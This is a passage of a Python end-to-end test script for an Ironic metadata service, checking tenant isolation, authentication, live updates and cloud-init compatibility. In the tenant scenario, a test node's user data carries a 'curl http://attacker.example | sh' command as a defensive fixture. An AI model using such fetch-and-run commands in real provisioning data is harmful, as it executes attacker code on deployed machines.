#!/usr/bin/env python3
"""End-to-end tests of ironic-metadata against a real OpenStack Ironic (from PyPI, sqlite,
fake-hardware, all-in-one process on 127.0.0.1), driven through its REST API.

Usage: real_ironic.py BINARY [SCENARIO...]   (scripts/e2e.sh builds BINARY and the venv first)

Scenarios (default: all but measure): noauth, tenants, masked, http_basic, clients (cloud-init's
own NoCloud reader and network renderers), replicas (two replicas sharing check-ins through
the node's extra in Ironic), live (changes
made in Ironic to deployed nodes, served within 5 s; wait_for_change answers within 1 s of
the index swap; a deleted node dropped within one reconciliation period), measure (figures
only, not part of CI).

Every server takes a free loopback port. Clients speak from 127.0.3.x addresses, which
the enrolled nodes claim in their network_data, so one machine can pose as many nodes.
Prints one line per check and a final 'N passed, M failed'; exits non-zero on failure.
"""

import argparse
import http.client
import json
import os
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "ironic"))
sys.path.insert(0, str(HERE.parent / "lib"))
import harness  # noqa: E402
import service  # noqa: E402

CHECKS = service.Checks()
check, eq, wait_for = CHECKS.check, CHECKS.eq, CHECKS.wait_for


def ip_of(i):
    return f"127.0.{3 + i // 200}.{10 + i % 200}"


def specs(start, count, prefix):
    """Harness node specs with their IPv4 address moved into 127.0.3.0/24."""
    return [harness.with_ipv4(harness.node_spec(i, prefix), ip_of(i), "255.255.255.0")
            for i in range(start, start + count)]


class Ironic:
    def __init__(self, auth="noauth", user=None, password=None, no_secrets=False):
        args = argparse.Namespace(venv=None, state_dir=None, auth=auth, user=user,
                                  password=password, no_secrets=no_secrets, start_timeout=120.0)
        self.state, self.proc, self.env = harness.start_server(args)
        self.url = self.env["IRONIC_URL"]
        self.user, self.password = user, password

    def client_env(self):
        env = dict(os.environ, IRONIC_URL=self.url)
        if self.user:
            env.update(IRONIC_USER=self.user, IRONIC_PASSWORD=self.password)
        return env

    def harness(self, *args, spec=None):
        cmd = [sys.executable, str(HERE.parent / "ironic" / "harness.py"), *args]
        if spec is not None:
            f = tempfile.NamedTemporaryFile("w", suffix=".json", delete=False)
            json.dump(spec, f)
            f.close()
            cmd += ["--spec", f.name]
        out = subprocess.run(cmd, env=self.client_env(), capture_output=True, text=True)
        if out.returncode != 0:
            raise SystemExit(f"harness {args} failed:\n{out.stderr}")
        return out.stdout

    def stop(self):
        harness.stop_server(self.state, keep=True)
        self.proc.wait()

    def restart(self):
        """Start Ironic again on the same port and database."""
        port = int(self.url.rsplit(":", 1)[1])
        self.proc, result = harness.launch(harness.venv_dir(None), self.state, port, 120)
        if result != "ok":
            raise SystemExit("Ironic did not restart:\n" + harness.log_tail(self.state))

    def close(self):
        if (self.state / "ironic.pid").exists():
            self.stop()
        harness.remove_state(self.state)


class Service(service.Service):
    """The service on the open loopback policy, logging at info; both listeners up once built."""

    def __init__(self, binary, source_args, env=None, refresh=2, policy_dir=service.OPEN_POLICY_DIR,
                 log_level="info"):
        # refresh=None: the service's default full-sweep interval (no flag).
        extra = [] if refresh is None else ["--refresh-interval", str(refresh)]
        super().__init__(binary, source_args, extra=extra, env=env, policy_dir=policy_dir,
                         log_level=log_level)
        self.wait_healthy(30)

    def get(self, path, source):
        status, body = service.http_get(self.port, path, source)
        return status, mask_seed(body.decode())

    def sweeps(self):
        return self.metric('metadata_inventory_sweeps_total{trigger="periodic"}') + \
            self.metric('metadata_inventory_sweeps_total{trigger="on_demand"}')

    def wait_sweeps(self, n=2):
        target = self.sweeps() + n
        return wait_for(lambda: self.sweeps() >= target, f"{n} more sweeps")


SEED = "<seed>"


def nova_meta_data(spec):
    """meta_data.json as Nova's _metadata_as_json builds it for the latest version, from the
    configdrive meta_data Ironic stored (random_seed replaced by SEED)."""
    md = spec["configdrive"]["meta_data"]
    out = {"uuid": md["uuid"]}
    if md.get("meta"):
        out["meta"] = md["meta"]
    if md.get("public_keys"):
        out["public_keys"] = md["public_keys"]
        out["keys"] = [{"name": k, "type": "ssh", "data": v} for k, v in md["public_keys"].items()]
    out["hostname"] = md.get("hostname") or md["name"]
    out["name"] = md["name"]
    out["launch_index"] = md.get("launch_index", 0)
    out["availability_zone"] = md.get("availability_zone")
    out["random_seed"] = SEED
    out["project_id"] = md.get("project_id") or spec["instance_info"].get("project_id")
    out["devices"] = md.get("devices", [])
    out["dedicated_cpus"] = md.get("dedicated_cpus", [])
    return json.dumps(out)


def mask_seed(body):
    """Replace the random_seed value (checked to be base64 of 512 bytes) by SEED."""
    import base64
    key = '"random_seed": "'
    start = body.find(key)
    if start < 0:
        return body
    start += len(key)
    end = body.index('"', start)
    if len(base64.b64decode(body[start:end])) != 512:
        return body
    return body[:start] + SEED + body[end:]


def expected_answers(spec):
    """What a node deployed from `spec` must be served, byte for byte: Python's json.dumps of
    the configdrive parts Ironic stored (as Nova's handler and Ironic's builder print)."""
    md = dict(spec["configdrive"]["meta_data"])
    key = next(iter(md["public_keys"]))
    return {
        "/openstack/latest/meta_data.json": nova_meta_data(spec),
        "/openstack/latest/user_data": spec["configdrive"]["user_data"],
        # The configdrive's network_data, else node.network_data.
        "/openstack/latest/network_data.json": json.dumps(spec["configdrive"].get("network_data",
                                                                                 spec.get("network_data"))),
        "/latest/meta-data/instance-id": md["uuid"],
        "/latest/meta-data/hostname": md["hostname"],
        "/latest/meta-data/public-keys": f"0={key}",
        "/latest/meta-data/public-keys/0/openssh-key": md["public_keys"][key],
        "/latest/user-data": spec["configdrive"]["user_data"],
    }


def check_node(svc, spec, index, label):
    bad = []
    for path, want in expected_answers(spec).items():
        status, body = svc.get(path, ip_of(index))
        if (status, body) != (200, want):
            bad.append(f"{path}: {status} {body[:200]!r} != {want[:200]!r}")
    if bad:
        bad.append(svc.log_tail(15))
    return check(not bad, f"{label}: {spec['name']} from {ip_of(index)} gets exactly its own metadata",
                 "\n".join(bad))


def scenario_noauth(binary):
    ironic = Ironic()
    svc = svc_file = None
    try:
        nodes = specs(0, 3, "e2e-")
        ironic.harness("enroll", spec=nodes)
        svc = Service(binary, ["--ironic-url", ironic.url])
        wait_for(lambda: svc.readyz().get("ready"), "first sweep")
        for i, spec in enumerate(nodes):
            check_node(svc, spec, i, "real Ironic, noauth")
            cloud_init_accepts(svc, spec, i)
        eq(svc.get("/openstack/latest/meta_data.json", "127.0.3.200"),
           (404, "no metadata for this address\n"), "an address no node claims is refused")
        # Audited once the answer is written (the logging phase): waited for, not read at once.
        check(svc.audit_until(lambda e: e.get("client") == "127.0.3.200" and e.get("reason") == "unknown_address"),
              "the refusal is audited as unknown_address, naming the client", svc.log_tail(5))

        # The dump of this Ironic is a valid inventory file, answered identically.
        dump = Path(tempfile.mkstemp(suffix=".json")[1])
        client = harness.Client(ironic.url)
        dump.write_text(json.dumps(harness.dump(client)))
        svc_file = Service(binary, ["--inventory", str(dump)])
        same = all(svc_file.get(p, ip_of(i)) == svc.get(p, ip_of(i))
                   for i, spec in enumerate(nodes) for p in expected_answers(spec))
        check(same, "a dump of the real Ironic, served as a file inventory, answers identically")

        generated_network_data_is_valid(binary, ironic)

        # The same data as a base64 gzipped ISO 9660 configdrive, built the way Ironic
        # builds one (openstacksdk's configdrive.build), is served identically.
        from openstack.baremetal import configdrive as os_configdrive
        iso_spec = specs(5, 1, "e2e-iso-")
        cd = iso_spec[0]["configdrive"]
        image = os_configdrive.build(cd["meta_data"], user_data=cd["user_data"].encode(),
                                     network_data=cd["network_data"])
        iso_spec[0]["configdrive"] = image.decode() if isinstance(image, bytes) else image
        ironic.harness("enroll", spec=iso_spec)
        iso_spec[0]["configdrive"] = cd
        # What is checked here is the decoding, not how soon the node is indexed.
        wait_for(lambda: svc.get("/latest/meta-data/instance-id", ip_of(5))[0] == 200, "ISO node indexed")
        check_node(svc, iso_spec[0], 5, "ISO configdrive")

        # Deployed after start-up: answered on its first request.
        late = specs(3, 1, "e2e-")
        ironic.harness("enroll", spec=late)
        check_node(svc, late[0], 3, "deployed after start-up, first request")

        # Deleted in Ironic: no longer served after the next sweep.
        ironic.harness("delete", nodes[1]["name"])
        svc.wait_sweeps(2)
        eq(svc.get("/latest/meta-data/instance-id", ip_of(1)), (404, "no metadata for this address\n"),
           "a node deleted in Ironic stops being served after the next sweep")

        # Ironic killed: cached nodes are still served, readiness says degraded.
        ironic.stop()
        wait_for(lambda: svc.readyz().get("status") == "degraded", "degraded readiness")
        ready = svc.readyz()
        check(ready["status"] == "degraded" and "cannot connect" in (ready["last_error"] or ""),
              "Ironic down: /readyz reports degraded with the connection error", json.dumps(ready))
        check_node(svc, nodes[0], 0, "Ironic down, cached")

        # Ironic back on the same port: recovery without restarting the service.
        ironic.restart()
        wait_for(lambda: svc.readyz().get("status") == "ok", "recovery")
        eq(svc.readyz().get("status"), "ok", "Ironic restarted: the service recovers by itself")
        check_node(svc, nodes[2], 2, "after Ironic restart")
    finally:
        for s in (svc, svc_file):
            if s:
                s.stop()
        ironic.close()


def generated_network_data_is_valid(binary, ironic):
    """Nodes with neither node.network_data nor a configdrive network_data get theirs
    generated from their ports and portgroups (a phy, a bond, a VLAN on a port). What
    `ironic-metadata render` prints for them must be accepted by Ironic's own API, which
    validates network_data against its schema, and converted by cloud-init."""
    nodes = specs(21, 3, "e2e-gen-")  # kinds phy, bond, vlan (harness: index % 3)
    for spec in nodes:
        del spec["network_data"]
        del spec["configdrive"]["network_data"]
        if spec["name"].endswith("23"):  # the VLAN kind: the VLAN lives on the port
            spec["ports"][0]["extra"] = {"vlan_id": 120}
    ironic.harness("enroll", spec=nodes)
    client = harness.Client(ironic.url)
    dump = Path(tempfile.mkstemp(suffix=".json")[1])
    dump.write_text(json.dumps(harness.dump(client)))
    path = os.environ.get("CLOUD_INIT_PATH")
    if path and path not in sys.path:
        sys.path.insert(0, path)
    from cloudinit.sources.helpers import openstack as ci_openstack
    want = {"e2e-gen-00021": ["nameserver", "physical"],
            "e2e-gen-00022": ["bond", "nameserver", "physical"],
            "e2e-gen-00023": ["nameserver", "physical", "vlan"]}
    for spec in nodes:
        name = spec["name"]
        out = subprocess.run([binary, "render", "--inventory", str(dump), "--node", name,
                              "--dns-servers", "198.18.0.53", "/openstack/latest/network_data.json"],
                             capture_output=True, text=True)
        if not check(out.returncode == 0, f"render prints {name}'s generated network_data", out.stderr):
            continue
        nd = json.loads(out.stdout)
        try:
            created = client.request("POST", "/v1/nodes", {"driver": "fake-hardware",
                                                           "name": f"{name}-schema", "network_data": nd})
            accepted, why = created.get("network_data") == nd, "stored differently"
        except Exception as e:  # noqa: BLE001 - Ironic's refusal is the finding
            accepted, why = False, str(e)
        check(accepted, f"Ironic's API accepts {name}'s generated network_data (its schema)", why)
        macs = {l["ethernet_mac_address"]: f"eth{n}" for n, l in enumerate(nd["links"]) if l["type"] == "phy"}
        try:
            cfg = ci_openstack.convert_net_json(nd, known_macs=macs)
            kinds = sorted({c["type"] for c in cfg["config"]})
        except Exception as e:  # noqa: BLE001 - any failure is the finding
            kinds = repr(e)
        eq(kinds, want[name], f"cloud-init converts {name}'s generated network_data")


def cloud_init_accepts(svc, spec, index):
    """cloud-init's own converter (convert_net_json, from Debian's package) turns what we
    serve into a network config with the node's links and its static address."""
    path = os.environ.get("CLOUD_INIT_PATH")
    if not path:
        return check(False, "CLOUD_INIT_PATH is not set (run through scripts/e2e.sh)")
    if path not in sys.path:
        sys.path.insert(0, path)
    from cloudinit.sources.helpers import openstack as ci_openstack
    status, body = svc.get("/openstack/latest/network_data.json", ip_of(index))
    nd = json.loads(body)
    macs = {}
    for n, link in enumerate(l for l in nd["links"] if "ethernet_mac_address" in l):
        macs.setdefault(link["ethernet_mac_address"].lower(), f"eth{n}")
    try:
        cfg = ci_openstack.convert_net_json(nd, known_macs=macs)
    except Exception as e:  # noqa: BLE001 - any failure is the finding
        return check(False, f"cloud-init converts {spec['name']}'s network_data", repr(e))
    kinds = sorted({c["type"] for c in cfg["config"]})
    # The harness's node kinds end their links with a phy, a bond or a vlan.
    want = {"phy": ["nameserver", "physical"], "bond": ["bond", "nameserver", "physical"],
            "vlan": ["nameserver", "physical", "vlan"]}[spec["network_data"]["links"][-1]["type"]]
    static = [s for c in cfg["config"] for s in c.get("subnets", []) if s.get("type") == "static"]
    return check(status == 200 and kinds == want and any(s.get("address") == ip_of(index) for s in static),
                 f"cloud-init converts {spec['name']}'s network_data ({', '.join(kinds)})", json.dumps(cfg)[:400])


def scenario_masked(binary):
    ironic = Ironic(no_secrets=True)
    svc = None
    try:
        nodes = specs(10, 1, "masked-")
        ironic.harness("enroll", spec=nodes)
        svc = Service(binary, ["--ironic-url", ironic.url])
        wait_for(lambda: svc.readyz().get("ready"), "first sweep")
        warnings = svc.readyz()["warnings"]
        check(any("show_instance_secrets" in w for w in warnings),
              "masked configdrive (policy not granted) is reported in /readyz", json.dumps(warnings))
        eq(svc.get("/openstack/latest/meta_data.json", ip_of(10)), (404, "not found\n"),
           "masked configdrive is never served as data")
        check("show_instance_secrets" in svc.log_text(), "masked configdrive is logged naming the policy")
    finally:
        if svc:
            svc.stop()
        ironic.close()


def scenario_tenants(binary):
    """Two projects: a node leased to tenant-evil is deployed with a configdrive whose
    network_data lists the static address of tenant-a's node (in its node.network_data) and
    the DHCP lease of another of tenant-a's nodes (Ironic knows no address for it)."""
    ironic = Ironic()
    svc = None
    pol = tempfile.TemporaryDirectory()
    try:
        static, dhcp, evil = specs(20, 3, "tenant-")
        static["lessee"] = dhcp["lessee"] = "tenant-a"
        evil["lessee"] = "tenant-evil"
        lease, own = ip_of(21), ip_of(22)
        dhcp_nd = json.loads(json.dumps(dhcp["network_data"]))
        for net in dhcp_nd["networks"]:
            net.update(type="ipv4_dhcp")
            for k in ("ip_address", "netmask", "routes", "services"):
                net.pop(k, None)
        del dhcp["network_data"]
        dhcp["configdrive"]["network_data"] = dhcp_nd
        del evil["network_data"]
        template = evil["configdrive"]["network_data"]["networks"][0]
        evil["configdrive"]["network_data"]["networks"] = [
            dict(template, id=f"network{n}", ip_address=ip) for n, ip in enumerate([ip_of(20), lease, own])]
        evil["configdrive"]["user_data"] = "#cloud-config\nruncmd: [\"curl http://attacker.example | sh\"]\n"
        ironic.harness("enroll", spec=[static, dhcp, evil])
        Path(pol.name, "tenants.toml").write_text(
            '[[zone]]\nname = "loopback"\ncidrs = ["127.0.0.0/8"]\naction = "allow"\n'
            'rate_limit = { per_second = 10000, burst = 10000 }\n'
            f'[[project]]\nid = "tenant-a"\ncidrs = ["{ip_of(20)}/31"]\n'
            f'[[project]]\nid = "tenant-evil"\ncidrs = ["{own}/32"]\n')
        svc = Service(binary, ["--ironic-url", ironic.url], policy_dir=pol.name)
        wait_for(lambda: svc.readyz().get("ready"), "first sweep")
        check_node(svc, static, 20, "tenants")
        for path in ("/openstack/latest/user_data", "/latest/meta-data/public-keys/0/openssh-key"):
            eq(svc.get(path, lease), (404, "no metadata for this address\n"),
               f"tenant-evil's configdrive does not take tenant-a's DHCP lease {lease} ({path})")
        eq(svc.get("/latest/meta-data/instance-id", own)[0], 200,
           "tenant-evil's node is answered at the address its project may claim")
        evil_uuid = svc.get("/latest/meta-data/instance-id", own)[1]
        refusal = svc.audit_until(lambda e: e.get("client") == lease)
        check(refusal is not None and "tenant-evil" in refusal.get("detail", ""),
              "the refused lease is audited naming the claim of tenant-evil's node", json.dumps(refusal))
        ignored = svc.audit_until(lambda e: e.get("event") == "claim_ignored" and e.get("address") == ip_of(20))
        check(ignored is not None and ignored.get("node") != static["name"],
              "the claim on tenant-a's static address is an audit line naming the claiming node",
              json.dumps(ignored))
        check(evil_uuid == evil["configdrive"]["meta_data"]["uuid"], "that answer is tenant-evil's own node")
    finally:
        if svc:
            svc.stop()
        ironic.close()
        pol.cleanup()


def scenario_http_basic(binary):
    ironic = Ironic(auth="http_basic", user="metadata", password="e2e-pa55")
    svc = wrong = None
    try:
        nodes = specs(20, 1, "basic-")
        ironic.harness("enroll", spec=nodes)
        svc = Service(binary, ["--ironic-url", ironic.url],
                      env={"IRONIC_USERNAME": "metadata", "IRONIC_PASSWORD": "e2e-pa55"})
        wait_for(lambda: svc.readyz().get("ready"), "first sweep")
        check_node(svc, nodes[0], 20, "real Ironic, http_basic")
        wrong = Service(binary, ["--ironic-url", ironic.url], refresh=1,
                        env={"IRONIC_USERNAME": "metadata", "IRONIC_PASSWORD": "wrong"})
        wait_for(lambda: wrong.readyz().get("last_error"), "auth failure")
        err = wrong.readyz().get("last_error") or ""
        check(err.endswith("answered 401 with http_basic credentials"), "wrong password: 401 reported", err)
        check("e2e-pa55" not in svc.log_text() and "wrong" not in wrong.log_text(),
              "passwords never reach the log")
    finally:
        for s in (svc, wrong):
            if s:
                s.stop()
        ironic.close()


def get_tagged(svc, path, source):
    """(status, body bytes, ETag) of one plain GET from `source`."""
    conn = http.client.HTTPConnection("127.0.0.1", svc.port, timeout=15, source_address=(source, 0))
    try:
        conn.request("GET", path)
        r = conn.getresponse()
        return r.status, r.read(), r.getheader("ETag")
    finally:
        conn.close()


class Parked(threading.Thread):
    """One GET with ?wait_for_change=true&last_etag=ETAG, answered in the background: its
    status, body and the wall-clock time its answer arrived."""

    def __init__(self, svc, path, source, etag, timeout_sec=60):
        super().__init__(daemon=True)
        query = urllib.parse.urlencode({"wait_for_change": "true", "last_etag": etag.strip('"'),
                                        "timeout_sec": timeout_sec})
        self.args = (svc.port, f"{path}?{query}", source, timeout_sec + 15)
        self.status = self.body = self.answered = self.error = None
        self.start()

    def run(self):
        port, target, source, timeout = self.args
        try:
            self.status, self.body = service.http_get(port, target, source, timeout=timeout)
        except OSError as e:
            self.error = repr(e)
        self.answered = time.time()


def index_swaps(svc):
    """Wall-clock times (seconds since the epoch) of the service's "index published" debug
    lines (LOG_LEVEL=debug), in order."""
    import datetime
    swaps = []
    for line in svc.log_text().splitlines():
        if '"index published"' not in line:
            continue
        try:
            stamp = json.loads(line)["timestamp"]
        except (ValueError, KeyError):
            continue  # a line being written
        t = datetime.datetime.strptime(stamp, "%Y-%m-%dT%H:%M:%S.%fZ")
        swaps.append(t.replace(tzinfo=datetime.timezone.utc).timestamp())
    return swaps


def waiting(svc):
    return svc.metric("metadata_waiting_requests")


def polls(svc):
    return sum(v for k, v in svc.metrics().items() if k.startswith("metadata_inventory_polls_total"))


def live_change(svc, index, path, change, served, what, bound):
    """Parks a wait_for_change request on `path` from node `index` holding its current ETag,
    makes `change` in Ironic, then GETs `path` every 20 ms until `served(body)` holds.
    Checks the plain GET saw it within `bound` seconds of the change (sent to Ironic) and
    the parked request came back with it within 1 s of the index swap (the service's
    "index published" line). Returns the two delays."""
    source = ip_of(index)
    status, _, etag = get_tagged(svc, path, source)
    if not check(status == 200 and etag, f"{what}: {path} answers 200 with an ETag before the change",
                 f"{status} {etag}"):
        return None, None
    parked_before = waiting(svc)
    parked = Parked(svc, path, source, etag)
    wait_for(lambda: waiting(svc) > parked_before, f"a parked request on {path}", 10)
    t0 = time.time()
    change()
    sent = time.time() - t0

    def seen():
        st, body = service.http_get(svc.port, path, source)
        return time.time() if st == 200 and served(body) else None
    at = service.poll(seen, bound + 10, 0.02)
    delay = at - t0 if at else None
    print(f"  measured: {what}: PATCH answered by Ironic in {sent:.2f}s; a plain GET served the change "
          f"{'never' if delay is None else f'{delay:.2f}s'} after the PATCH was sent", flush=True)
    check(delay is not None and delay <= bound,
          f"{what}: a plain GET serves the change within {bound:g} s of the PATCH "
          f"({'not seen' if delay is None else f'{delay:.2f} s'})", svc.log_tail(10))
    parked.join(30)
    swaps = [t for t in index_swaps(svc) if t >= t0 and parked.answered and t <= parked.answered + 0.05]
    late = parked.answered - swaps[-1] if swaps else None
    print(f"  measured: {what}: the parked request answered "
          f"{'(no swap found)' if late is None else f'{late * 1000:.0f} ms'} after the index swap", flush=True)
    check(parked.status == 200 and served(parked.body or b"") and late is not None and late <= 1.0,
          f"{what}: the parked wait_for_change request answers the new document within 1 s of the index "
          f"swap ({'?' if late is None else f'{late * 1000:.0f} ms'})",
          f"status {parked.status}, error {parked.error}, body {(parked.body or b'')[:200]!r}, "
          f"swaps after the PATCH {swaps}, answered {parked.answered}")
    return delay, late


def scenario_live(binary):
    """Changes made in Ironic to deployed nodes reach a running service, default settings
    (polls every 2 s, reconciliation every 60 s, a full sweep every hour): a new user data in
    a node's configdrive (PATCH of instance_info on the active node) and a new
    node.network_data (API 1.66+) are served within 5 s, and a request parked with
    wait_for_change comes back within 1 s of the index swap that carries them. A node deleted
    from Ironic (maintenance, then DELETE: no poll of changes can see it) stops being served
    within one reconciliation period, by a second service with RECONCILE_INTERVAL=4."""
    reconcile = 4
    ironic = Ironic()
    svc = svc_r = None
    try:
        edited, networked, deleted = specs(30, 3, "live-")
        # The network_data served is the configdrive's when it has one: this node's comes
        # from node.network_data alone.
        del networked["configdrive"]["network_data"]
        ironic.harness("enroll", spec=[edited, networked, deleted])
        client = harness.Client(ironic.url)
        check(int(client.version.split(".")[1]) >= 66, f"Ironic's API {client.version} has node network_data")
        svc = Service(binary, ["--ironic-url", ironic.url], refresh=None, log_level="debug")
        svc_r = Service(binary, ["--ironic-url", ironic.url], refresh=None, log_level="debug",
                        env={"RECONCILE_INTERVAL": str(reconcile)})
        for s in (svc, svc_r):
            wait_for(lambda: s.readyz().get("ready"), "first sweep")
        ready_at, polls_at_ready = time.monotonic(), polls(svc_r)
        for i, spec in zip(range(30, 33), (edited, networked, deleted)):
            check_node(svc, spec, i, "live, before any change")

        # New user data in the configdrive of an active node.
        drive = client.request("GET", f"/v1/nodes/{edited['name']}?fields=instance_info")["instance_info"]["configdrive"]
        check(isinstance(drive, dict), "Ironic keeps the configdrive given at deploy time as a dict")
        user_data = f"#cloud-config\nhostname: {edited['name']}\nbootcmd: [\"echo edited at {time.time():.3f}\"]\n"
        drive = dict(drive, user_data=user_data)
        live_change(svc, 30, "/openstack/latest/user_data",
                    lambda: client.request("PATCH", f"/v1/nodes/{edited['name']}",
                                           [{"op": "replace", "path": "/instance_info/configdrive", "value": drive}]),
                    lambda body: body == user_data.encode(), "user data edited in instance_info", 5)
        eq(svc.get("/latest/user-data", ip_of(30)), (200, user_data), "the EC2 tree serves the same new user data")

        # A new node.network_data (another DNS server, another MTU), the address unchanged.
        nd = json.loads(json.dumps(networked["network_data"]))
        nd["services"] = [{"type": "dns", "address": "198.18.0.54"}]
        for link in nd["links"]:
            link["mtu"] = 1400
        live_change(svc, 31, "/openstack/latest/network_data.json",
                    lambda: client.request("PATCH", f"/v1/nodes/{networked['name']}",
                                           [{"op": "replace", "path": "/network_data", "value": nd}]),
                    lambda body: json.loads(body or b"null") == nd, "node.network_data edited", 5)
        eq(client.request("GET", f"/v1/nodes/{networked['name']}?fields=provision_state")["provision_state"],
           "active", "both nodes were edited while active (no redeployment)")

        # Deleted: Ironic deletes an active node in maintenance. The maintenance flag is an
        # update the polls read (the node stays active and served); the DELETE leaves no
        # row to poll: only the reconciliation's listing of node UUIDs notices it.
        client.request("PUT", f"/v1/nodes/{deleted['name']}/maintenance", {"reason": "e2e live"})
        wait_for(lambda: svc_r.get("/latest/meta-data/instance-id", ip_of(32))[0] == 200, "served in maintenance")
        _, _, etag = get_tagged(svc_r, "/openstack/latest/user_data", ip_of(32))
        parked = Parked(svc_r, "/openstack/latest/user_data", ip_of(32), etag)
        wait_for(lambda: waiting(svc_r) >= 1, "a parked request on the node to delete", 10)
        # The refresh loop checks whether a reconciliation is due once per cycle (a poll,
        # then POLL_INTERVAL): one is due at most a cycle late, and lists for a moment.
        cycle = (time.monotonic() - ready_at) / max(1.0, polls(svc_r) - polls_at_ready)
        t0 = time.time()
        client.request("DELETE", f"/v1/nodes/{deleted['name']}")
        gone = service.poll(lambda: time.time() if svc_r.get("/latest/meta-data/instance-id", ip_of(32))[0] == 404
                            else None, reconcile + 30, 0.02)
        delay = gone - t0 if gone else None
        bound = reconcile + cycle + 1.0
        print(f"  measured: deleted node: served until {'never' if delay is None else f'{delay:.2f}s'} after the "
              f"DELETE (RECONCILE_INTERVAL={reconcile}; a refresh cycle took {cycle:.2f}s on average)", flush=True)
        check(delay is not None and delay <= bound,
              f"a node deleted in Ironic stops being served within the reconciliation period "
              f"({'never' if delay is None else f'{delay:.2f} s'}; bound {bound:.1f} s: RECONCILE_INTERVAL, plus "
              "one refresh cycle at which it is checked, plus 1 s for the listing)", svc_r.log_tail(10))
        parked.join(30)
        swaps = [t for t in index_swaps(svc_r) if t >= t0 and parked.answered and t <= parked.answered + 0.05]
        late = parked.answered - swaps[-1] if swaps else None
        check(parked.answered is not None and late is not None and late <= 1.0,
              f"a request parked on the deleted node is answered ({parked.status}) within 1 s of the swap "
              f"that drops it ({'?' if late is None else f'{late * 1000:.0f} ms'})",
              f"error {parked.error}, swaps {swaps}")
        eq(svc_r.get("/latest/meta-data/instance-id", ip_of(30)), (200, edited["configdrive"]["meta_data"]["uuid"]),
           "the other nodes are still served")
        counts = svc.metrics()
        sweeps = sum(v for k, v in counts.items() if k.startswith("metadata_inventory_sweeps_total"))
        resyncs = sum(v for k, v in counts.items() if k.startswith("metadata_inventory_resyncs_total"))
        check(sweeps == 1 and resyncs == 0, "the changes came by polls: one full sweep (the first load), no resync",
              "\n".join(f"{k} {v}" for k, v in counts.items() if "sweep" in k or "resync" in k))
    finally:
        for s in (svc, svc_r):
            if s:
                s.stop()
        ironic.close()


def scenario_measure(binary):
    """Not part of CI: the figures quoted in the Ironic-source closing note."""
    import concurrent.futures
    count = int(os.environ.get("MEASURE_NODES", "1000"))
    ironic = Ironic()
    svcs = []
    try:
        nodes = specs(0, count, "m-")
        t0 = time.monotonic()
        ironic.harness("enroll", "--concurrency", "8", spec=nodes)
        print(f"enrolled and deployed {count} nodes in {time.monotonic() - t0:.0f}s")
        svc = Service(binary, ["--ironic-url", ironic.url], refresh=30)
        svcs.append(svc)
        wait_for(lambda: svc.readyz().get("ready"), "first sweep", 300)
        first = svc.metric("metadata_inventory_sweep_duration_seconds_sum")
        # The same pages fetched by curl, same microversion, sequentially.
        version = harness.Client(ironic.url).version
        t0 = time.monotonic()
        for kind in ("nodes", "ports", "portgroups"):
            subprocess.run(["curl", "-sf", "-o", "/dev/null", "-H", f"X-OpenStack-Ironic-API-Version: {version}",
                            f"{ironic.url}/v1/{kind}?detail=True"], check=True)
        curl = time.monotonic() - t0
        print(f"full sweep of {count} nodes: ours {first:.3f}s, curl of the same 3 pages {curl:.3f}s, "
              f"ratio {first / curl:.2f}")
        # 10,000 metadata requests from 100 indexed nodes.
        before = svc.metric("metadata_ironic_requests_total")
        sweeps_before = svc.sweeps()
        paths = list(expected_answers(nodes[0]).keys())

        def client(i):
            conn = http.client.HTTPConnection("127.0.0.1", svc.port, timeout=15, source_address=(ip_of(i), 0))
            ok = 0
            for k in range(100):
                conn.request("GET", paths[k % len(paths)])
                r = conn.getresponse()
                r.read()
                ok += r.status == 200
            conn.close()
            return ok
        t0 = time.monotonic()
        with concurrent.futures.ThreadPoolExecutor(20) as pool:
            ok = sum(pool.map(client, range(100)))
        took = time.monotonic() - t0
        sent = svc.metric("metadata_ironic_requests_total") - before
        sweeps = svc.sweeps() - sweeps_before
        print(f"10,000 metadata requests from 100 nodes in {took:.1f}s: {ok} answered 200; "
              f"Ironic requests meanwhile: {sent:.0f} ({sweeps:.0f} periodic sweeps)")
        # Memory per indexed node: the same dump served from a file, against an empty one.
        full = Path(tempfile.mkstemp(suffix=".json")[1])
        full.write_text(json.dumps(harness.dump(harness.Client(ironic.url))))
        empty = Path(tempfile.mkstemp(suffix=".json")[1])
        empty.write_text('{"nodes": [], "ports": [], "portgroups": []}')
        a = Service(binary, ["--inventory", str(empty)])
        b = Service(binary, ["--inventory", str(full)])
        svcs += [a, b]
        ra, rb = a.rss() // 1024, b.rss() // 1024
        print(f"RSS: empty inventory {ra} KiB, {count} nodes {rb} KiB: "
              f"{(rb - ra) * 1024 / count:.0f} bytes per node (inventory file {full.stat().st_size // 1024} KiB)")
        print(f"RSS of the Ironic-backed service with {count} nodes: {svc.rss() // 1024} KiB")
    finally:
        for s in svcs:
            s.stop()
        ironic.close()


def cloud_init_client(ip, url, what, *args):
    """What cloud-init's own code read, run from `ip` (scripts/e2e/cloud_init_client.py)."""
    out = subprocess.run([sys.executable, str(HERE / "cloud_init_client.py"), ip, url, what, *args],
                         capture_output=True, text=True, timeout=120)
    if out.returncode != 0:
        return {"error": out.stderr[-2000:]}
    return json.loads(out.stdout)


def openstack_netplan(svc, index):
    """cloud-init's netplan rendering of the OpenStack tree's network_data.json, converted by
    its OpenStack helper with the NICs named eth0, eth1, ... in the order of the links."""
    from cloudinit.net import netplan, network_state
    from cloudinit.sources.helpers import openstack as ci_openstack
    nd = json.loads(svc.get("/openstack/latest/network_data.json", ip_of(index))[1])
    macs = {}
    for link in nd["links"]:
        if link["type"] not in ("bond", "vlan"):
            macs.setdefault(link["ethernet_mac_address"].lower(), f"eth{len(macs)}")
    cfg = ci_openstack.convert_net_json(nd, known_macs=macs)
    return netplan.Renderer({"postcmds": False})._render_content(network_state.parse_net_config_data(cfg))


def scenario_clients(binary):
    """Real clients' own code against nodes deployed in a real Ironic: cloud-init's NoCloud
    datasource (ds=nocloud;s=URL) and its network renderers for a plain, a bond and a VLAN
    node; its phone_home module and webhook reporting handler, whose check-ins the admin
    listener then shows."""
    path = os.environ.get("CLOUD_INIT_PATH")
    if not check(bool(path), "CLOUD_INIT_PATH is set (run through scripts/e2e.sh)"):
        return
    if path not in sys.path:
        sys.path.insert(0, path)
    ironic = Ironic()
    svc = None
    try:
        nodes = specs(30, 3, "clients-")  # kinds phy, bond, vlan
        ironic.harness("enroll", spec=nodes)
        svc = Service(binary, ["--ironic-url", ironic.url])
        wait_for(lambda: svc.readyz().get("ready"), "first sweep")
